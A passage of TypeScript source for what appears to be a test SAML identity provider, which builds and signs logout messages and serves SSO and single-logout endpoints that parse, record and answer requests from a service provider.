      `<saml:NameID${xmlAttributes({ Format: options.nameIdFormat ?? NAMEID_PERSISTENT })}>` +
      `${escapeXml(options.nameId)}</saml:NameID>` +
      sessionIndex +
      `</samlp:LogoutRequest>`
    )
  }

  /** Unsigned LogoutResponse XML. */
  buildLogoutResponseXml(spSloUrl: string, options: LogoutResponseOptions): string {
    return (
      `<samlp:LogoutResponse${xmlAttributes({
        'xmlns:samlp': NS.samlp,
        'xmlns:saml': NS.saml,
        'ID': newId(),
        'Version': '2.0',
        'IssueInstant': samlTime(new Date()),
        'Destination': options.destination ?? spSloUrl,
        'InResponseTo': options.inResponseTo,
      })}>` +
      `<saml:Issuer>${escapeXml(options.issuer ?? this.entityId)}</saml:Issuer>` +
      `<samlp:Status><samlp:StatusCode${xmlAttributes({
        Value: options.status ?? STATUS_SUCCESS,
      })}/></samlp:Status>` +
      `</samlp:LogoutResponse>`
    )
  }

  /**
   * IdP-initiated LogoutRequest on the HTTP-Redirect binding: the full URL
   * of the SP SLO endpoint with SAMLRequest, RelayState, SigAlg and
   * Signature (bindings §3.4.4.1).
   */
  createLogoutRequestUrl(
    spSloUrl: string,
    options: LogoutRequestOptions,
    sign: RedirectSignOptions = {}
  ): string {
    const xml = this.buildLogoutRequestXml(spSloUrl, options)
    return appendQuery(
      spSloUrl,
      redirectQuery('SAMLRequest', xml, options.relayState, this.keys, sign)
    )
  }

  /** LogoutResponse to an SP-initiated LogoutRequest, HTTP-Redirect binding, signed likewise. */
  createLogoutResponseUrl(
    spSloUrl: string,
    options: LogoutResponseOptions,
    sign: RedirectSignOptions = {}
  ): string {
    const xml = this.buildLogoutResponseXml(spSloUrl, options)
    return appendQuery(
      spSloUrl,
      redirectQuery('SAMLResponse', xml, options.relayState, this.keys, sign)
    )
  }

  /** IdP-initiated LogoutRequest on the HTTP-POST binding: the form fields to post to the SP. */
  createLogoutRequestPost(
    spSloUrl: string,
    options: LogoutRequestOptions,
    sign: PostSignOptions = {}
  ): PostFields {
    const xml = this.#signPost(this.buildLogoutRequestXml(spSloUrl, options), sign)
    return postFields('SAMLRequest', xml, options.relayState)
  }

  /** LogoutResponse to an SP-initiated LogoutRequest on the HTTP-POST binding: the form fields. */
  createLogoutResponsePost(
    spSloUrl: string,
    options: LogoutResponseOptions,
    sign: PostSignOptions = {}
  ): PostFields {
    const xml = this.#signPost(this.buildLogoutResponseXml(spSloUrl, options), sign)
    return postFields('SAMLResponse', xml, options.relayState)
  }

  #signPost(xml: string, options: PostSignOptions) {
    if (options.signed === false) return xml
    return this.sign(xml, {
      assertion: false,
      response: true,
      keys: options.keys,
      algorithm: options.algorithm,
    })
  }

  #handle(request: IncomingMessage, response: ServerResponse): void {
    const target = request.url ?? '/'
    const url = new URL(target, 'http://127.0.0.1')
    const queryIndex = target.indexOf('?')
    const rawQuery = queryIndex < 0 ? '' : target.slice(queryIndex + 1)
    const method = request.method ?? 'GET'
    this.received.push({ method, path: url.pathname, query: Object.fromEntries(url.searchParams) })

    try {
      if (method === 'GET' && url.pathname === '/sso') {
        this.#handleSso(url.searchParams, rawQuery, response)
      } else if (method === 'GET' && url.pathname === '/slo') {
        this.#handleSlo(url.searchParams, rawQuery, response)
      } else {
        this.#answer(response, 404, 'Not found')
      }
    } catch (error) {
      // A message we cannot parse is the client's fault, as at a real IdP.
      this.#answer(response, 400, `Bad SAML message: ${(error as Error).message}`)
    }
  }

  #answer(
    response: ServerResponse,
    status: number,
    body: string,
    headers: Record<string, string> = {}
  ): void {
    response.writeHead(status, { 'content-type': 'text/plain; charset=utf-8', ...headers })
    response.end(body)
  }

  #signatureValid(rawQuery: string): boolean | null {
    return this.spCertificatePem ? verifyRedirectSignature(rawQuery, this.spCertificatePem) : null
  }

  #handleSso(params: URLSearchParams, rawQuery: string, response: ServerResponse): void {
    const samlRequest = params.get('SAMLRequest')
    if (!samlRequest) return this.#answer(response, 400, 'Missing SAMLRequest')

    const xml = decodeSamlRedirect(samlRequest)
    const root = rootElement(parseXml(xml))
    if (root.namespaceURI !== NS.samlp || root.localName !== 'AuthnRequest') {
      return this.#answer(response, 400, 'Not an AuthnRequest')
    }
    const relayState = params.get('RelayState')
    const parsed: ParsedAuthnRequest = {
      id: root.getAttribute('ID') ?? '',
      issuer: textOf(childElement(root, NS.saml, 'Issuer')) ?? '',
      acsUrl: root.getAttribute('AssertionConsumerServiceURL'),
      destination: root.getAttribute('Destination'),
      relayState,
      signatureValid: this.#signatureValid(rawQuery),
      isPassive: root.getAttribute('IsPassive') === 'true',
      forceAuthn: root.getAttribute('ForceAuthn') === 'true',
      xml,
    }
    this.authnRequests.push(parsed)

    if (parsed.signatureValid === false) return this.#answer(response, 400, 'Invalid signature')
    const acsUrl = parsed.acsUrl ?? this.spAcsUrl
    if (!acsUrl) return this.#answer(response, 400, 'No AssertionConsumerServiceURL')

    let samlResponse: string
    if (this.#user) {
      samlResponse = this.createSamlResponse({
        inResponseTo: parsed.id,
        destination: acsUrl,
        audience: parsed.issuer,
        user: this.#user,
      })
    } else if (parsed.isPassive) {
      // A passive request must not prompt: answer NoPassive, as IdPs do.
      samlResponse = this.createSamlResponse({
        inResponseTo: parsed.id,
        destination: acsUrl,
        audience: parsed.issuer,
        user: { nameId: '' },
        status: 'urn:oasis:names:tc:SAML:2.0:status:Responder',
        subStatus: 'urn:oasis:names:tc:SAML:2.0:status:NoPassive',
      })
    } else {
      return this.#answer(response, 401, 'Not signed in at the test IdP')
    }

    const fields: Record<string, string> = { SAMLResponse: samlResponse }
    if (relayState !== null) fields.RelayState = relayState
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
    response.end(autoPostForm(acsUrl, fields))
  }

  #handleSlo(params: URLSearchParams, rawQuery: string, response: ServerResponse): void {
    const relayState = params.get('RelayState')
    const samlResponse = params.get('SAMLResponse')
    if (samlResponse) {
      const xml = decodeSamlRedirect(samlResponse)
      const root = rootElement(parseXml(xml))
      const status = childElement(root, NS.samlp, 'Status')
      const parsed: ParsedLogoutResponse = {
        id: root.getAttribute('ID') ?? '',
        inResponseTo: root.getAttribute('InResponseTo'),
        issuer: textOf(childElement(root, NS.saml, 'Issuer')) ?? '',
        status:
          (status && childElement(status, NS.samlp, 'StatusCode')?.getAttribute('Value')) ?? null,
        relayState,
        signatureValid: this.#signatureValid(rawQuery),
        xml,
      }
      this.logoutResponses.push(parsed)
      if (parsed.signatureValid === false) return this.#answer(response, 400, 'Invalid signature')
      return this.#answer(response, 200, 'Logged out')
    }

    const samlRequest = params.get('SAMLRequest')
    if (!samlRequest) return this.#answer(response, 400, 'Missing SAMLRequest or SAMLResponse')
    const xml = decodeSamlRedirect(samlRequest)
    const root = rootElement(parseXml(xml))
    if (root.namespaceURI !== NS.samlp || root.localName !== 'LogoutRequest') {
      return this.#answer(response, 400, 'Not a LogoutRequest')
    }
    const parsed: ParsedLogoutRequest = {
      id: root.getAttribute('ID') ?? '',
      issuer: textOf(childElement(root, NS.saml, 'Issuer')) ?? '',
      nameId: textOf(childElement(root, NS.saml, 'NameID')),
      sessionIndex: textOf(childElement(root, NS.samlp, 'SessionIndex')),
      destination: root.getAttribute('Destination'),
      relayState,
      signatureValid: this.#signatureValid(rawQuery),
      xml,
    }
    this.logoutRequests.push(parsed)

    if (parsed.signatureValid === false) return this.#answer(response, 400, 'Invalid signature')
    if (!this.spSloUrl) return this.#answer(response, 500, 'TestIdp has no spSloUrl configured')
    this.#user = null
    const answer = { inResponseTo: parsed.id, relayState: relayState ?? undefined }
    if (this.sloBinding === 'post') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      response.end(
        autoPostForm(this.spSloUrl, this.createLogoutResponsePost(this.spSloUrl, answer))
      )
      return
    }
    const location = this.createLogoutResponseUrl(this.spSloUrl, answer)
    this.#answer(response, 302, 'Redirecting', { location })
  }
}
